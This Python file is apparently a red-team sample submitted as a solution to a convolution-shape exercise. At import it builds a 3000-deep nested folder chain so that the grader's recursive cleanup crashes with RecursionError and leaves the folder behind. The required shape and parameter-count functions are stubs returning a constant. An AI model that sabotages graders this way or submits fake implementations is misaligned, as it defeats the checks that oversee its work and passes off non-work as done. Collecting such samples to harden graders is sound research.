# exercise: conv_shape
"""From a blind red-team review. conv_shape: builds a 3000-deep folder chain in the worker's folder; the grader's TemporaryDirectory cleanup (recursive rmtree) hits RecursionError, so `grade exercise` crashes with a traceback and the folder is left behind."""
import os
_fd = os.open(os.getcwd(), os.O_RDONLY)
for _i in range(3000):
    os.mkdir("d", dir_fd=_fd)
    _new = os.open("d", os.O_RDONLY, dir_fd=_fd)
    os.close(_fd)
    _fd = _new
os.close(_fd)

def conv2d_output_shape(*a, **k):
    return (1, 1, 1)
pool2d_output_shape = conv2d_output_shape
conv2d_param_count = conv2d_output_shape
